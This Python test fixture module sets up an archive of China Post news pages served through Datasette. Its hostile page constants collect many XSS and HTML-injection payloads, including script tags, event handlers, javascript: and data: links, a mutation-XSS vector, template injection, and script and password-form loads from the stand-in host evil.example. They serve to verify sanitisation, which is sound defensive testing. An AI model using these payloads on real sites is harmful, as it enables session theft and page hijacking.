"""An archive to look at: English and Chinese pages, an edited one, one that is gone, and one that means harm; served.

The hostile page holds every way known to us in which stored HTML could act in a reader's browser. Each would set
`window.harmed`, load something from `HOSTILE_HOST`, or change the page around it.
"""

import sqlite3
import threading
import time
import warnings
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import uvicorn
from jinja2.bccache import Bucket, BytecodeCache

import cms
from archiving import HOME, SEED, STAMP, Archivist, playing_site
from cms_frame import Node

with warnings.catch_warnings():  # importing Datasette opens a database in memory and leaves it open
    warnings.simplefilter("ignore", ResourceWarning)
    from postarchive.serve.follow import Follower, following
    from postarchive.serve.reached import Reached
    from postarchive.serve.server import listening, server_for, url_of
    from postarchive.serve.site import ANY_LOCAL, open_site
    from postarchive.serve.tables import DATABASE
if TYPE_CHECKING:
    from types import CodeType

    from datasette.app import Datasette

sqlite3.enable_callback_tracebacks(False)  # noqa: FBT003 - takes no name; importing Datasette switched them on

CHINESE = "http://www.chinapost.com.cn/html1/report/2603/4510-1.htm"
ALSO_CHINESE = "http://www.chinapost.com.cn/cn/report/2609/1176-1.htm"
OLD_POST_OFFICE = f"{HOME}html1/report/2211/9595-1.htm"  # 古镇邮局
IN_TWO_PARTS = f"{HOME}html1/report/2203/3375-1.htm"
SECOND_PART = f"{HOME}html1/report/2203/3375-2.htm"
GONE = f"{HOME}html1/report/22061/3122-1.htm"
EDITED_NODE = 230412345
EDITED = f"{HOME}html1/report/23041/2345-1.htm"
HOSTILE_NODE = 230412346
HOSTILE = f"{HOME}html1/report/23041/2346-1.htm"
HOSTILE_HOST = "evil.example"
HARM = "window.harmed=1"
PAGES = (
    HOME, SEED, STAMP, CHINESE, ALSO_CHINESE, OLD_POST_OFFICE, IN_TWO_PARTS, SECOND_PART, GONE, EDITED, HOSTILE,
)  # fmt: skip

# A page of every kind that `serve` has.
EVERY_KIND = (
    "/",
    "/-/search",
    "/-/search?q=邮政&since=2020&has=image",
    "/-/search?q=nothingofthekind",
    "/-/article/171164327",
    "/-/article/22033375",
    "/-/article/220613122",
    "/-/article/26091176",
    f"/-/article/{EDITED_NODE}?version=1",
    f"/-/article/{EDITED_NODE}?from=1&to=2&view=sides",
    f"/-/article/{EDITED_NODE}/original",
    f"/-/article/{HOSTILE_NODE}",
    f"/-/article/{HOSTILE_NODE}/original",
    f"/-/article/{EDITED_NODE}/calendar",
    "/-/calendar",
    "/-/stamps",
    "/-/stamps/checklist?year=2017",
    "/-/numbers",
    "/-/nothing",
    f"/{DATABASE}",
    f"/{DATABASE}/articles?_search=mail&_facet=site&kind=news",
    f"/{DATABASE}/stamps",
    f"/{DATABASE}/articles/9",
    f"/{DATABASE}?sql=select+*+from+articles",
    f"/{DATABASE}/stamps_of_a_year?year=2017",
    f"/{DATABASE}/gone",
)

HOSTILE_TITLE = f"Mail &quot;&gt;&lt;script&gt;{HARM}&lt;/script&gt;&lt;img src=x onerror={HARM}&gt; {{{{ 7*7 }}}}"
HOSTILE_BODY = f"""
<base href="http://{HOSTILE_HOST}/"><meta http-equiv="refresh" content="0;url=http://{HOSTILE_HOST}/refresh">
<p onclick="{HARM}" onmouseover="{HARM}" style="width: expression({HARM}); background: url(http://{HOSTILE_HOST}/css)">
First paragraph with a <a href="javascript:{HARM}">first link</a>, a <a href="java&#9;script:{HARM}">second link</a>, a
<a href="data:text/html,&lt;script&gt;{HARM}&lt;/script&gt;">third link</a>, a
<a href="vbscript:{HARM}">fourth link</a> and a <a href="/html1/report/2304/8456-1.htm">good link</a>.</p>
<script>{HARM}; document.body.innerHTML = "gone"</script><SCRIPT SRC="http://{HOSTILE_HOST}/x.js"></SCRIPT>
<style>body {{ display: none }} @import url(http://{HOSTILE_HOST}/import.css);</style>
<link rel="stylesheet" href="http://{HOSTILE_HOST}/link.css">
<p><img src="x" onerror="{HARM}" alt="harm"><img src="http://{HOSTILE_HOST}/pixel.gif">
<img src="javascript:{HARM}"></p>
<iframe src="http://{HOSTILE_HOST}/frame" srcdoc="&lt;script&gt;parent.harmed=1&lt;/script&gt;"></iframe>
<object data="http://{HOSTILE_HOST}/object"></object><embed src="http://{HOSTILE_HOST}/embed">
<svg onload="{HARM}"><script>{HARM}</script><use href="http://{HOSTILE_HOST}/svg#x"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror={HARM}></style></mglyph></table></mtext></math>
<form action="http://{HOSTILE_HOST}/form"><input name="password" autofocus onfocus="{HARM}"><button>Go</button></form>
<details open ontoggle="{HARM}"><summary>more</summary></details>
<video src="http://{HOSTILE_HOST}/video" onerror="{HARM}" autoplay></video>
<p>Second paragraph says &lt;script&gt;{HARM}&lt;/script&gt; and &lt;img src=x onerror={HARM}&gt; and {{{{ 7*7 }}}}.</p>
<p>Lemons hold vitamin C.</p>
<p>Third paragraph turns \u202eknil eht\u202c around\u200b and ends \x07here.</p>
<p><a href="javascript:{HARM}//report.pdf">a file.pdf</a>
<a href="/res/chinaposten/2304/report.pdf" onclick="{HARM}">a good file.pdf</a></p>
"""


def news_page(node: int, title: str, body: str) -> bytes:
    """Return a page of the site's template."""
    content = cms.article(title, body, byline=cms.byline("China Post News", "2023-04-12"))
    return cms.page(Node(id=node, title=title, created="2023-04-12"), content).encode()


def edited_page(parcels: int) -> bytes:
    """Return the page whose number an editor changes."""
    body = cms.paragraphs(
        "The mail boat left the island at seven.",
        f"It carried {parcels} parcels of oranges.",
        "Its engine is steered by a program in C++.",
    )
    return news_page(EDITED_NODE, "A mail boat for the island", body)


def archive_of_all(folder: Path) -> Archivist:
    """Make the archive: three runs, with an edit before the second and a page gone before the third."""
    archivist = Archivist(folder)
    with pytest.MonkeyPatch.context() as patch, playing_site(patch) as site:
        site.edit(HOSTILE, news_page(HOSTILE_NODE, HOSTILE_TITLE, HOSTILE_BODY))
        site.edit(EDITED, edited_page(40))
        archivist.fetch(*PAGES)
        site.edit(EDITED, edited_page(4000))
        archivist.fetch(EDITED)
        site.remove(GONE)
        archivist.fetch(GONE)
    return archivist


def copied(archive: Archivist, folder: Path, *statements: str) -> Path:
    """Copy the archive's database, without its evidence, into a new folder, and change it there."""
    folder.mkdir()
    path = folder / archive.database.name
    with closing(sqlite3.connect(archive.database)) as source, closing(sqlite3.connect(path)) as target:
        source.backup(target)
        for statement in statements:
            target.execute(statement)
        target.commit()
    return folder


class Compiled(BytecodeCache):
    """Compiled templates: more than half of what the first pages of a site take, and the tests open fifty sites."""

    def __init__(self) -> None:
        """Begin without any."""
        self._codes: dict[tuple[str, str, bool], CodeType | None] = {}

    def load_bytecode(self, bucket: Bucket) -> None:
        """Give a template the code that its source was compiled to, if it was."""
        bucket.code = self._codes.get((bucket.key, bucket.checksum, bucket.environment.is_async))

    def dump_bytecode(self, bucket: Bucket) -> None:
        """Keep the code of a template."""
        self._codes[bucket.key, bucket.checksum, bucket.environment.is_async] = bucket.code


COMPILED = Compiled()


@contextmanager
def site_over(follower: Follower, archive: Path, place: Reached = ANY_LOCAL) -> "Iterator[Datasette]":
    """Open Datasette over the copies of an archive, with the templates that an earlier one has compiled."""
    with open_site(follower, archive, place) as datasette:
        datasette.jinja_env.bytecode_cache = COMPILED
        yield datasette


@contextmanager
def datasette_over(archive: Path) -> "Iterator[Datasette]":
    """Open Datasette over a copy of the archive, which follows it."""
    with following(archive) as follower, site_over(follower, archive) as datasette:
        yield datasette


@contextmanager
def server_over(archive: Path) -> Iterator[str]:
    """Serve the archive on a free port from a thread; yield the address without its last slash."""
    with listening("127.0.0.1", 0) as listener, datasette_over(archive) as datasette:
        server = server_for(datasette)
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
        thread.start()
        _wait_for(server)
        try:
            yield url_of(listener).rstrip("/")
        finally:
            server.should_exit = True
            thread.join()


def _wait_for(server: uvicorn.Server, seconds: float = 10.0) -> None:
    deadline = time.monotonic() + seconds
    while not server.started:
        assert time.monotonic() < deadline, "the server does not start"
        time.sleep(0.02)
